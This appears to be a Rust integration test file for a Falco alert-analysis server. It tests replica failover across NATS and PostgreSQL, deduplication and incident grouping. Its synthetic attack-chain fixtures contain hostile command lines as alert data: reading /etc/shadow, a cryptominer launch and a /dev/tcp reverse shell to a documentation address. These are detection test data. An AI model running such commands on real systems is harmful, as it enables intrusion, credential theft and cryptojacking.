//! `serve --nats` scaled out, with the real servers: three `falco-analyst` processes share one
//! PostgreSQL database and one NATS JetStream; attack chains spread over many containers are
//! posted to all of them; one replica is killed with SIGKILL mid-run. Afterwards every
//! acknowledged alert is stored exactly once and analysed, each container's chain is one
//! incident, and the dead replica's partitions were taken over (the time is printed; it goes in
//! BENCHMARKS.md, not in an assertion).
//!
//! A second test restarts a private `nats-server` (never the machine's shared one) under a
//! running replica.
//!
//! Needs NATS at `FA_TEST_NATS_URL` (default nats://127.0.0.1:4222) and PostgreSQL at
//! `FA_TEST_POSTGRES_URL`. Skipped with a notice when either is missing, unless
//! `FA_REQUIRE_SERVICES` is set (CI): then a missing server fails the test. Each test uses a
//! database, subjects, stream and bucket of its own and removes them.

use std::collections::{BTreeMap, HashSet};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

const BIN: &str = env!("CARGO_BIN_EXE_falco-analyst");
const PARTITIONS: u32 = 16;
const LEASE_TTL_SECS: u64 = 3;
const CHAIN: [(&str, &str, &str, &str); 4] = [
    ("Terminal shell in container", "Notice", "bash", "bash -i"),
    (
        "Read sensitive file untrusted",
        "Warning",
        "cat",
        "cat /etc/shadow",
    ),
    (
        "Drop and execute new binary in container",
        "Critical",
        "xmrig",
        "/tmp/xmrig -o pool.example:3333",
    ),
    (
        "Redirect STDOUT/STDIN to Network Connection in Container",
        "Notice",
        "sh",
        "sh -c 'sh -i >& /dev/tcp/203.0.113.9/4444 0>&1'",
    ),
];

fn required() -> bool {
    std::env::var_os("FA_REQUIRE_SERVICES").is_some_and(|v| !v.is_empty())
}

fn nats_url() -> String {
    std::env::var("FA_TEST_NATS_URL")
        .ok()
        .filter(|u| !u.trim().is_empty())
        .unwrap_or_else(|| "nats://127.0.0.1:4222".into())
}

/// host:port of a nats:// URL.
fn host_port(url: &str) -> String {
    let rest = url.split_once("://").map_or(url, |(_, r)| r);
    let rest = rest.rsplit_once('@').map_or(rest, |(_, r)| r);
    rest.split('/').next().unwrap_or(rest).to_string()
}

fn reachable(url: &str) -> bool {
    use std::net::ToSocketAddrs;
    host_port(url)
        .to_socket_addrs()
        .ok()
        .and_then(|mut a| a.next())
        .is_some_and(|a| std::net::TcpStream::connect_timeout(&a, Duration::from_secs(2)).is_ok())
}

/// The servers, or `None` with a notice (a failure when `FA_REQUIRE_SERVICES` is set).
fn services(test: &str) -> Option<(String, String)> {
    let nats = nats_url();
    let pg = std::env::var("FA_TEST_POSTGRES_URL")
        .ok()
        .filter(|u| !u.trim().is_empty());
    let missing = match (&pg, reachable(&nats)) {
        (None, _) => Some("FA_TEST_POSTGRES_URL is not set".to_string()),
        (Some(_), false) => Some(format!("NATS does not answer at {nats}")),
        _ => None,
    };
    if let Some(why) = missing {
        assert!(!required(), "FA_REQUIRE_SERVICES is set but {why}");
        eprintln!("{why}: skipping the NATS test `{test}`");
        return None;
    }
    Some((nats, pg?))
}

fn random_hex() -> String {
    use std::hash::{BuildHasher, Hasher};
    let mut h = std::collections::hash_map::RandomState::new().build_hasher();
    h.write_u32(std::process::id());
    format!("{:012x}", h.finish() & 0xffff_ffff_ffff)
}

/// A database for one test, dropped at the end.
struct Db {
    admin: String,
    name: String,
    url: String,
}

impl Db {
    fn create(admin: &str) -> Db {
        let name = format!("fa_nats_{}", random_hex());
        let (base, query) = admin
            .split_once('?')
            .map_or((admin, None), |(b, q)| (b, Some(q)));
        let (server, _) = base.rsplit_once('/').expect("a database URL");
        let url = match query {
            Some(q) => format!("{server}/{name}?{q}"),
            None => format!("{server}/{name}"),
        };
        let mut c = postgres::Client::connect(admin, postgres::NoTls)
            .unwrap_or_else(|e| panic!("PostgreSQL does not answer at {admin}: {e}"));
        c.batch_execute(&format!("CREATE DATABASE {name}")).unwrap();
        Db {
            admin: admin.to_string(),
            name,
            url,
        }
    }

    fn client(&self) -> postgres::Client {
        postgres::Client::connect(&self.url, postgres::NoTls).unwrap()
    }

    fn count(&self, sql: &str) -> i64 {
        self.client().query_one(sql, &[]).unwrap().get(0)
    }
}

impl Drop for Db {
    fn drop(&mut self) {
        if self.admin.is_empty() {
            return;
        }
        // Its own thread: the synchronous client cannot run on the test's runtime.
        let (admin, name) = (self.admin.clone(), self.name.clone());
        let _ = std::thread::spawn(move || {
            if let Ok(mut c) = postgres::Client::connect(&admin, postgres::NoTls) {
                let _ = c.batch_execute(&format!("DROP DATABASE IF EXISTS {name} WITH (FORCE)"));
            }
        })
        .join();
    }
}

/// Streams and bucket of a prefix, deleted at the end.
struct NatsNames {
    url: String,
    prefix: String,
}

impl Drop for NatsNames {
    fn drop(&mut self) {
        let (url, prefix) = (self.url.clone(), self.prefix.clone());
        // Its own runtime: drop may run inside or outside the test's.
        let _ = std::thread::spawn(move || {
            if let Ok(rt) = tokio::runtime::Builder::new_current_thread()
                .enable_all()
                .build()
            {
                let _ = rt.block_on(fa_server::nats::delete_all(&url, &prefix));
            }
        })
        .join();
    }
}

/// Run blocking PostgreSQL client code off the test's runtime (the synchronous client starts a
/// runtime of its own, which panics on a runtime thread).
fn off_runtime<R: Send>(f: impl FnOnce() -> R + Send) -> R {
    std::thread::scope(|s| s.spawn(f).join().unwrap())
}

fn free_port() -> u16 {
    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    l.local_addr().unwrap().port()
}

struct Replica {
    name: String,
    base: String,
    child: Child,
    log: PathBuf,
}

fn spawn_replica(dir: &Path, name: &str, db: &str, nats: &str, prefix: &str) -> Replica {
    spawn_replica_with(dir, name, db, nats, prefix, &[])
}

fn spawn_replica_with(
    dir: &Path,
    name: &str,
    db: &str,
    nats: &str,
    prefix: &str,
    extra: &[&str],
) -> Replica {
    let port = free_port();
    let log = dir.join(format!("{name}.log"));
    let work = dir.join(name);
    std::fs::create_dir_all(&work).unwrap();
    let child = Command::new(BIN)
        .args(["serve", "--listen", &format!("127.0.0.1:{port}")])
        .args(["--insecure-no-auth", "--db", db, "--nats", nats])
        .args(["--nats-prefix", prefix, "--nats-replica", name])
        .args(["--nats-partitions", &PARTITIONS.to_string()])
        .args(["--nats-lease-ttl", &LEASE_TTL_SECS.to_string()])
        .args(extra)
        .env_remove("FALCO_ANALYST_TOKEN")
        .env_remove("FALCO_ANALYST_DB")
        .env_remove("FALCO_ANALYST_NATS_URL")
        .env("RUST_LOG", "info")
        .current_dir(&work)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(std::fs::File::create(&log).unwrap())
        .spawn()
        .unwrap();
    Replica {
        name: name.into(),
        base: format!("http://127.0.0.1:{port}"),
        child,
        log,
    }
}

impl Replica {
    async fn wait_ready(&mut self, client: &reqwest::Client) {
        let t = Instant::now();
        loop {
            if let Ok(r) = client.get(format!("{}/readyz", self.base)).send().await {
                if r.status() == 200 {
                    return;
                }
            }
            if self.child.try_wait().unwrap().is_some() {
                panic!(
                    "{} exited during start-up:\n{}",
                    self.name,
                    std::fs::read_to_string(&self.log).unwrap_or_default()
                );
            }
            assert!(
                t.elapsed() < Duration::from_secs(60),
                "{} not ready",
                self.name
            );
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    }

    /// SIGTERM, then wait for it to exit.
    fn stop(mut self) {
        let _ = Command::new("kill")
            .arg(self.child.id().to_string())
            .status();
        let _ = self.child.wait();
    }
}

impl Drop for Replica {
    /// A failing test leaves no process behind.
    fn drop(&mut self) {
        if matches!(self.child.try_wait(), Ok(None)) {
            let _ = self.child.kill();
            let _ = self.child.wait();
        }
    }
}

/// Who holds each partition's lease (partition -> replica), as the bucket says now.
async fn leases(kv: &async_nats::jetstream::kv::Store) -> BTreeMap<u32, String> {
    let mut out = BTreeMap::new();
    for p in 0..PARTITIONS {
        if let Ok(Some(v)) = kv.get(format!("p{p}")).await {
            out.insert(p, String::from_utf8_lossy(&v).into_owned());
        }
    }
    out
}

/// The value of an unlabelled metric in OpenMetrics text (0 when absent).
fn metric(text: &str, name: &str) -> i64 {
    text.lines()
        .find_map(|l| l.strip_prefix(name)?.strip_prefix(' ')?.trim().parse().ok())
        .unwrap_or(0)
}

fn container(c: usize) -> String {
    format!("{:012x}", 0xc0de_0000_0000u64 + c as u64)
}

fn alert(c: usize, step: usize, base: chrono::DateTime<chrono::Utc>) -> (String, String) {
    let (rule, priority, proc_name, cmdline) = CHAIN[step];
    let uuid = format!("00000000-0000-4000-8000-{:06x}{:06x}", c, step);
    let time = base + chrono::Duration::seconds((step * 5) as i64);
    let cid = container(c);
    let body = serde_json::json!({
        "uuid": uuid,
        "rule": rule,
        "priority": priority,
        "source": "syscall",
        "hostname": format!("node-{}", c % 5),
        "time": time.to_rfc3339_opts(chrono::SecondsFormat::Nanos, true),
        "output": format!("{rule} (proc.cmdline={cmdline} container.id={cid})"),
        "output_fields": {
            "container.id": cid,
            "container.name": format!("web-{c}"),
            "container.image.repository": "docker.io/library/nginx",
            "container.image.tag": "1.25",
            "k8s.ns.name": "shop",
            "k8s.pod.name": format!("web-{c}"),
            "proc.name": proc_name,
            "proc.cmdline": cmdline,
            "proc.pname": "nginx",
            "user.name": "root",
            "fd.name": if step == 1 { "/etc/shadow" } else { "" },
        },
    })
    .to_string();
    (uuid, body)
}

/// Post `alerts` in requests of `per_request`, spread over the replicas that answer; a request
/// that fails (its replica was killed) is sent again to the next one. Returns the uuids
/// acknowledged.
async fn post_all(
    client: &reqwest::Client,
    bases: &[String],
    alerts: &[(String, String)],
    per_request: usize,
    dead: &std::sync::Mutex<HashSet<String>>,
) -> HashSet<String> {
    let mut acked = HashSet::new();
    for (i, chunk) in alerts.chunks(per_request).enumerate() {
        let body: String = chunk.iter().map(|(_, b)| format!("{b}\n")).collect();
        let mut k = i;
        let t = Instant::now();
        loop {
            let base = &bases[k % bases.len()];
            k += 1;
            if dead.lock().unwrap().contains(base) {
                continue;
            }
            let r = client
                .post(format!("{base}/api/v1/alerts"))
                .header("content-type", "application/x-ndjson")
                .body(body.clone())
                .send()
                .await;
            match r {
                Ok(r) if r.status().is_success() => {
                    acked.extend(chunk.iter().map(|(u, _)| u.clone()));
                    break;
                }
                Ok(r) if r.status() == 429 || r.status() == 503 => {
                    tokio::time::sleep(Duration::from_millis(50)).await
                }
                Ok(r) => panic!("{}: {}", r.status(), r.text().await.unwrap_or_default()),
                Err(_) => tokio::time::sleep(Duration::from_millis(20)).await,
            }
            assert!(
                t.elapsed() < Duration::from_secs(60),
                "no replica took a request"
            );
        }
    }
    acked
}

/// Wait until the database holds `n` analysed alerts (or give up after `limit`).
async fn wait_analysed(db: &Db, n: usize, limit: Duration) -> i64 {
    let t = Instant::now();
    loop {
        let got = off_runtime(|| db.count("SELECT count(*)::BIGINT FROM alerts WHERE analyzed"));
        if got as usize >= n || t.elapsed() > limit {
            return got;
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn three_replicas_lose_one_to_kill_9_and_every_alert_is_stored_once_in_one_incident() {
    let Some((nats, pg)) = services("three_replicas_lose_one_to_kill_9") else {
        return;
    };
    let db = off_runtime(|| Db::create(&pg));
    let names = NatsNames {
        url: nats.clone(),
        prefix: format!("fat{}", random_hex()),
    };
    let dir = tempfile::tempdir().unwrap();
    let client = reqwest::Client::builder()
        .timeout(Duration::from_secs(10))
        .build()
        .unwrap();
    let mut replicas: Vec<Replica> = ["r0", "r1", "r2"]
        .iter()
        .map(|n| spawn_replica(dir.path(), n, &db.url, &nats, &names.prefix))
        .collect();
    for r in &mut replicas {
        r.wait_ready(&client).await;
    }
    let js = async_nats::jetstream::new(async_nats::connect(&nats).await.unwrap());
    let kv = js
        .get_key_value(format!("{}_leases", names.prefix))
        .await
        .unwrap();
    // Every partition held, and by all three (each holds its share).
    let t = Instant::now();
    loop {
        let l = leases(&kv).await;
        let holders: HashSet<&String> = l.values().collect();
        if l.len() == PARTITIONS as usize && holders.len() == 3 {
            break;
        }
        assert!(
            t.elapsed() < Duration::from_secs(60),
            "partitions not shared out: {l:?}"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }

    // 500 containers, four steps of an attack each; step k of every container is posted
    // before step k+1 of any, so each chain straddles the kill.
    let containers = 500;
    let base = chrono::Utc::now() - chrono::Duration::seconds(60);
    let bases: Vec<String> = replicas.iter().map(|r| r.base.clone()).collect();
    let dead = std::sync::Mutex::new(HashSet::new());
    let mut acked = HashSet::new();
    let mut killed_at = None;
    for step in 0..CHAIN.len() {
        let alerts: Vec<(String, String)> = (0..containers).map(|c| alert(c, step, base)).collect();
        acked.extend(post_all(&client, &bases, &alerts, 25, &dead).await);
        if step == 1 {
            // Mid-run: r1 has alerts analysed and not yet stored, and messages not yet
            // acknowledged.
            let r1 = &mut replicas[1];
            r1.child.kill().unwrap(); // SIGKILL
            r1.child.wait().unwrap();
            killed_at = Some(Instant::now());
            dead.lock().unwrap().insert(r1.base.clone());
        }
    }
    let killed_at = killed_at.unwrap();
    // Takeover: every partition held again, none by the dead replica.
    let takeover = loop {
        let l = leases(&kv).await;
        if l.len() == PARTITIONS as usize && l.values().all(|h| h != "r1") {
            break killed_at.elapsed();
        }
        assert!(
            killed_at.elapsed() < Duration::from_secs(120),
            "the dead replica's partitions were not taken over: {l:?}"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    };
    eprintln!(
        "takeover: all {PARTITIONS} partitions held by the survivors {:.1} s after kill -9 (lease TTL {LEASE_TTL_SECS} s)",
        takeover.as_secs_f64()
    );
    // The survivors' metrics say the same: all partitions theirs now.
    let mut held = 0;
    for (i, r) in replicas.iter().enumerate() {
        if i == 1 {
            continue;
        }
        let t = Instant::now();
        let text = loop {
            // The gauge follows the leases within a tick.
            let text = client
                .get(format!("{}/metrics", r.base))
                .send()
                .await
                .unwrap()
                .text()
                .await
                .unwrap();
            let n = metric(&text, "falco_analyst_nats_partitions_held");
            if held + n >= i64::from(PARTITIONS) || t.elapsed() > Duration::from_secs(10) {
                break text;
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        };
        held += metric(&text, "falco_analyst_nats_partitions_held");
        assert!(metric(&text, "falco_analyst_nats_partitions_taken_total") > 0);
    }
    assert_eq!(
        held,
        i64::from(PARTITIONS),
        "partitions held by the survivors"
    );
    let sent = containers * CHAIN.len();
    assert_eq!(
        acked.len(),
        sent,
        "every alert acknowledged by some replica"
    );
    let got = wait_analysed(&db, sent, Duration::from_secs(180)).await;

    let (stored, distinct, analysed, counted, chains) = off_runtime(|| {
        let stored: HashSet<String> = db
            .client()
            .query("SELECT uuid FROM alerts", &[])
            .unwrap()
            .iter()
            .map(|r| r.get(0))
            .collect();
        let distinct = db.count("SELECT count(*)::BIGINT FROM alerts");
        let analysed = db.count("SELECT count(*)::BIGINT FROM alerts WHERE analyzed");
        // Each alert counted once in its cluster: analysed once.
        let counted = db.count("SELECT coalesce(sum(count), 0)::BIGINT FROM clusters");
        // Per container: incidents named by its alerts, and incident rows about it.
        let mut c = db.client();
        let chains: Vec<(String, i64, i64)> = c
            .query(
                "SELECT e.entity,
                        (SELECT count(DISTINCT a.incident_id) FROM alerts a
                          WHERE a.incident_id IS NOT NULL
                            AND a.incident_id IN (SELECT id FROM incidents i WHERE i.entity = e.entity)),
                        (SELECT count(*) FROM incidents i WHERE i.entity = e.entity)
                 FROM (SELECT DISTINCT entity FROM incidents) e",
                &[],
            )
            .unwrap()
            .iter()
            .map(|r| (r.get(0), r.get(1), r.get(2)))
            .collect();
        (stored, distinct, analysed, counted, chains)
    });
    let lost: Vec<&String> = acked.difference(&stored).collect();
    eprintln!(
        "acknowledged {}, stored {distinct}, analysed {analysed}, lost {}, duplicates {}",
        acked.len(),
        lost.len(),
        distinct - stored.len() as i64
    );
    assert!(
        lost.is_empty(),
        "{} acknowledged alerts lost: {:?}",
        lost.len(),
        &lost[..lost.len().min(5)]
    );
    assert_eq!(got as usize, sent);
    assert_eq!(distinct as usize, sent, "stored exactly once");
    assert_eq!(analysed as usize, sent, "every alert analysed");
    assert_eq!(
        counted as usize, sent,
        "every alert counted once in its cluster"
    );
    // One incident per container, and every container's chain made one.
    let split: Vec<&(String, i64, i64)> = chains.iter().filter(|(_, _, n)| *n != 1).collect();
    assert!(
        split.is_empty(),
        "chains split into several incidents: {split:?}"
    );
    let entities: HashSet<&str> = chains.iter().map(|(e, _, _)| e.as_str()).collect();
    for c in 0..containers {
        let e = format!("container:{}", container(c));
        assert!(entities.contains(e.as_str()), "no incident for {e}");
    }
    let per_container = off_runtime(|| {
        db.count(
            "SELECT count(*)::BIGINT FROM (
                 SELECT body::json->'output_fields'->>'container.id' AS c
                 FROM alerts WHERE incident_id IS NOT NULL
                 GROUP BY 1 HAVING count(DISTINCT incident_id) > 1) s",
        )
    });
    assert_eq!(
        per_container, 0,
        "a container's alerts name several incidents"
    );
    // A redelivered alert is never counted twice in its incident.
    let overcounted = off_runtime(|| {
        db.count(&format!(
            "SELECT count(*)::BIGINT FROM incidents WHERE alert_count > {}",
            CHAIN.len()
        ))
    });
    assert_eq!(overcounted, 0, "an incident counts an alert twice");

    // Graceful stop of the survivors hands their leases back at once.
    for (i, r) in replicas.into_iter().enumerate() {
        if i != 1 {
            r.stop();
        }
    }
    let l = leases(&kv).await;
    assert!(l.is_empty(), "leases left after a graceful stop: {l:?}");
    drop(names);
    drop(db);
}

/// A `nats-server` of this test's own (the machine's shared one is never restarted).
struct PrivateNats {
    child: Option<Child>,
    port: u16,
    dir: PathBuf,
    log: PathBuf,
}

impl PrivateNats {
    fn start(port: u16, dir: &Path) -> Option<PrivateNats> {
        let mut n = PrivateNats {
            child: None,
            port,
            dir: dir.join("nats-store"),
            log: dir.join("nats-server.log"),
        };
        n.spawn()?;
        Some(n)
    }

    fn url(&self) -> String {
        format!("nats://127.0.0.1:{}", self.port)
    }

    fn spawn(&mut self) -> Option<()> {
        let child = Command::new("nats-server")
            .args([
                "-js",
                "-a",
                "127.0.0.1",
                "-p",
                &self.port.to_string(),
                "-sd",
            ])
            .arg(&self.dir)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(
                std::fs::OpenOptions::new()
                    .create(true)
                    .append(true)
                    .open(&self.log)
                    .ok()?,
            )
            .spawn()
            .ok()?;
        self.child = Some(child);
        let t = Instant::now();
        while !reachable(&self.url()) {
            assert!(
                t.elapsed() < Duration::from_secs(20),
                "nats-server did not start"
            );
            std::thread::sleep(Duration::from_millis(50));
        }
        Some(())
    }

    /// SIGKILL, then the same server again on the same port and store.
    fn restart(&mut self) {
        if let Some(mut c) = self.child.take() {
            c.kill().unwrap();
            c.wait().unwrap();
        }
        self.spawn().expect("nats-server restarts");
    }
}

impl Drop for PrivateNats {
    fn drop(&mut self) {
        if let Some(mut c) = self.child.take() {
            let _ = c.kill();
            let _ = c.wait();
        }
    }
}

/// The alert as Falcosidekick's NATS output publishes it (its JSON payload on
/// `falco.<priority>.<rule>`, no JetStream headers).
async fn publish_like_falcosidekick(
    client: &async_nats::Client,
    prefix: &str,
    alerts: &[(String, String)],
) {
    for (_, body) in alerts {
        let v: serde_json::Value = serde_json::from_str(body).unwrap();
        let priority = v["priority"].as_str().unwrap().to_lowercase();
        let rule: String = v["rule"]
            .as_str()
            .unwrap()
            .chars()
            .map(|c| {
                if c.is_ascii_alphanumeric() {
                    c.to_ascii_lowercase()
                } else {
                    '_'
                }
            })
            .collect();
        client
            .publish(
                format!("{prefix}.falco.{priority}.{rule}"),
                body.clone().into(),
            )
            .await
            .unwrap();
    }
    client.flush().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn falcosidekick_subjects_reach_a_consume_only_replica_across_a_nats_restart() {
    let Some((_, pg)) = services("falcosidekick_subjects_across_a_nats_restart") else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let Some(mut nats) = PrivateNats::start(free_port(), dir.path()) else {
        assert!(
            !required(),
            "FA_REQUIRE_SERVICES is set but nats-server cannot be run"
        );
        eprintln!("nats-server is not installed: skipping the NATS restart test");
        return;
    };
    let db = off_runtime(|| Db::create(&pg));
    let prefix = format!("far{}", random_hex());
    let falco_subjects = format!("{prefix}.falco.>");
    // One replica only consumes (no listener, a small analysis queue), the other also takes HTTP.
    let mut consumer = spawn_replica_with(
        dir.path(),
        "c0",
        &db.url,
        &nats.url(),
        &prefix,
        // A small analysis queue: fetches are cut to the room there is.
        &[
            "--no-listen",
            "--nats-falco-subjects",
            &falco_subjects,
            "--queue-capacity",
            "8",
        ],
    );
    let mut web = spawn_replica_with(
        dir.path(),
        "w0",
        &db.url,
        &nats.url(),
        &prefix,
        &["--nats-falco-subjects", &falco_subjects],
    );
    let client = reqwest::Client::builder()
        .timeout(Duration::from_secs(10))
        .build()
        .unwrap();
    web.wait_ready(&client).await;
    // The consume-only replica has no /readyz: it is ready once it holds partitions.
    let sidekick = async_nats::connect(nats.url()).await.unwrap();
    let kv = async_nats::jetstream::new(sidekick.clone())
        .get_key_value(format!("{prefix}_leases"))
        .await
        .unwrap();
    let t = Instant::now();
    loop {
        let l = leases(&kv).await;
        if l.len() == PARTITIONS as usize && l.values().any(|h| h == "c0") {
            break;
        }
        assert!(consumer.child.try_wait().unwrap().is_none(), "c0 exited");
        assert!(
            t.elapsed() < Duration::from_secs(60),
            "c0 holds no partition: {l:?}"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }

    let containers = 200;
    let base = chrono::Utc::now() - chrono::Duration::seconds(60);
    let step = |k: usize| -> Vec<(String, String)> {
        (0..containers).map(|c| alert(c, k, base)).collect()
    };
    // Steps 0 and 1: one through Falcosidekick's subjects, one over HTTP.
    publish_like_falcosidekick(&sidekick, &prefix, &step(0)).await;
    let dead = std::sync::Mutex::new(HashSet::new());
    post_all(
        &client,
        std::slice::from_ref(&web.base),
        &step(1),
        25,
        &dead,
    )
    .await;
    let got = wait_analysed(&db, 2 * containers, Duration::from_secs(120)).await;
    assert_eq!(got as usize, 2 * containers, "before the restart");

    // NATS killed and started again under both replicas: they reconnect, take their leases
    // again, and go on.
    drop(sidekick);
    nats.restart();
    let sidekick = async_nats::connect(nats.url()).await.unwrap();
    publish_like_falcosidekick(&sidekick, &prefix, &step(2)).await;
    post_all(
        &client,
        std::slice::from_ref(&web.base),
        &step(3),
        25,
        &dead,
    )
    .await;
    let sent = containers * CHAIN.len();
    let got = wait_analysed(&db, sent, Duration::from_secs(180)).await;
    let (distinct, split, overcounted) = off_runtime(|| {
        (
            db.count("SELECT count(DISTINCT uuid)::BIGINT FROM alerts"),
            db.count(
                "SELECT count(*)::BIGINT FROM (
                     SELECT body::json->'output_fields'->>'container.id' AS c
                     FROM alerts WHERE incident_id IS NOT NULL
                     GROUP BY 1 HAVING count(DISTINCT incident_id) > 1) s",
            ),
            db.count(&format!(
                "SELECT count(*)::BIGINT FROM incidents WHERE alert_count > {}",
                CHAIN.len()
            )),
        )
    });
    eprintln!("after the NATS restart: sent {sent}, analysed {got}, distinct {distinct}");
    assert_eq!(got as usize, sent, "every alert analysed, none twice");
    assert_eq!(distinct as usize, sent);
    assert_eq!(split, 0, "a container's alerts name several incidents");
    assert_eq!(overcounted, 0, "an incident counts an alert twice");
    assert!(consumer.child.try_wait().unwrap().is_none(), "c0 died");
    consumer.stop();
    web.stop();
    drop(db);
}

/// A PostgreSQL cluster of this test's own (initdb in a temporary directory, another port):
/// the machine's shared server is never restarted.
struct PrivatePg {
    bin: PathBuf,
    dir: PathBuf,
    port: u16,
    as_postgres: bool,
}

impl PrivatePg {
    fn start(root: &Path) -> Option<PrivatePg> {
        let bin = std::fs::read_dir("/usr/lib/postgresql")
            .ok()?
            .filter_map(|e| e.ok().map(|e| e.path().join("bin")))
            .filter(|b| b.join("initdb").exists())
            .max()?;
        // initdb refuses to run as root: then the cluster belongs to the postgres user.
        let as_postgres = Command::new("id")
            .arg("-u")
            .output()
            .ok()
            .is_some_and(|o| o.stdout.starts_with(b"0\n"));
        let dir = root.join("pg");
        std::fs::create_dir_all(&dir).ok()?;
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(root, std::fs::Permissions::from_mode(0o755)).ok()?;
        if as_postgres {
            Command::new("chown")
                .args(["postgres:postgres"])
                .arg(&dir)
                .status()
                .ok()?;
        }
        let pg = PrivatePg {
            bin,
            dir,
            port: free_port(),
            as_postgres,
        };
        let data = pg.dir.join("data");
        pg.run(
            "initdb",
            &[
                "-D".as_ref(),
                data.as_os_str(),
                "-A".as_ref(),
                "trust".as_ref(),
                "-U".as_ref(),
                "postgres".as_ref(),
            ],
        )
        .then_some(())?;
        pg.pg_ctl("start").then_some(pg)
    }

    fn run(&self, tool: &str, args: &[&std::ffi::OsStr]) -> bool {
        let exe = self.bin.join(tool);
        let mut c = if self.as_postgres {
            let mut c = Command::new("runuser");
            c.args(["-u", "postgres", "--"]).arg(exe);
            c
        } else {
            Command::new(exe)
        };
        c.args(args)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status()
            .is_ok_and(|s| s.success())
    }

    /// `pg_ctl start|stop|restart`; stop and restart are immediate (no shutdown checkpoint:
    /// as after a crash).
    fn pg_ctl(&self, action: &str) -> bool {
        let data = self.dir.join("data");
        let log = self.dir.join("log");
        let opts = format!(
            "-c listen_addresses=127.0.0.1 -p {} -k {}",
            self.port,
            self.dir.display()
        );
        let mut args: Vec<&std::ffi::OsStr> = vec![
            "-D".as_ref(),
            data.as_os_str(),
            "-l".as_ref(),
            log.as_os_str(),
            "-w".as_ref(),
            "-o".as_ref(),
            opts.as_ref(),
        ];
        if action != "start" {
            args.push("-m".as_ref());
            args.push("immediate".as_ref());
        }
        args.push(action.as_ref());
        self.run("pg_ctl", &args)
    }

    fn url(&self) -> String {
        format!("postgres://postgres@127.0.0.1:{}/postgres", self.port)
    }
}

impl Drop for PrivatePg {
    fn drop(&mut self) {
        self.pg_ctl("stop");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn two_replicas_go_on_across_a_postgresql_restart() {
    let Some((nats, _)) = services("two_replicas_go_on_across_a_postgresql_restart") else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let Some(pg) = off_runtime(|| PrivatePg::start(dir.path())) else {
        assert!(
            !required(),
            "FA_REQUIRE_SERVICES is set but a private PostgreSQL cluster cannot be started"
        );
        eprintln!("no PostgreSQL binaries to start a private cluster: skipping the restart test");
        return;
    };
    let names = NatsNames {
        url: nats.clone(),
        prefix: format!("fap{}", random_hex()),
    };
    let client = reqwest::Client::builder()
        .timeout(Duration::from_secs(10))
        .build()
        .unwrap();
    let db = Db {
        admin: String::new(),
        name: String::new(),
        url: pg.url(),
    };
    let mut replicas: Vec<Replica> = ["a", "b"]
        .iter()
        .map(|n| spawn_replica(dir.path(), n, &db.url, &nats, &names.prefix))
        .collect();
    for r in &mut replicas {
        r.wait_ready(&client).await;
    }
    let containers = 200;
    let base = chrono::Utc::now() - chrono::Duration::seconds(60);
    let bases: Vec<String> = replicas.iter().map(|r| r.base.clone()).collect();
    let dead = std::sync::Mutex::new(HashSet::new());
    let step = |k: usize| -> Vec<(String, String)> {
        (0..containers).map(|c| alert(c, k, base)).collect()
    };
    post_all(&client, &bases, &step(0), 25, &dead).await;
    post_all(&client, &bases, &step(1), 25, &dead).await;
    // PostgreSQL goes down hard while the replicas work, and comes back.
    assert!(off_runtime(|| pg.pg_ctl("stop")), "stopping PostgreSQL");
    // Ingest needs only NATS: these are acknowledged while the database is down.
    post_all(&client, &bases, &step(2), 25, &dead).await;
    assert!(
        off_runtime(|| pg.pg_ctl("start")),
        "starting PostgreSQL again"
    );
    post_all(&client, &bases, &step(3), 25, &dead).await;
    let sent = containers * CHAIN.len();
    let got = wait_analysed(&db, sent, Duration::from_secs(180)).await;
    let (distinct, split, overcounted) = off_runtime(|| {
        (
            db.count("SELECT count(DISTINCT uuid)::BIGINT FROM alerts"),
            db.count(
                "SELECT count(*)::BIGINT FROM (
                     SELECT body::json->'output_fields'->>'container.id' AS c
                     FROM alerts WHERE incident_id IS NOT NULL
                     GROUP BY 1 HAVING count(DISTINCT incident_id) > 1) s",
            ),
            db.count(&format!(
                "SELECT count(*)::BIGINT FROM incidents WHERE alert_count > {}",
                CHAIN.len()
            )),
        )
    });
    eprintln!("after the PostgreSQL restart: sent {sent}, analysed {got}, distinct {distinct}");
    assert_eq!(got as usize, sent, "every alert analysed, none twice");
    assert_eq!(distinct as usize, sent);
    assert_eq!(split, 0, "a container's alerts name several incidents");
    assert_eq!(overcounted, 0, "an incident counts an alert twice");
    for r in replicas {
        r.stop();
    }
    // The cluster goes with the test (no database to drop: `admin` is empty).
    drop(db);
    drop(names);
    drop(pg);
}
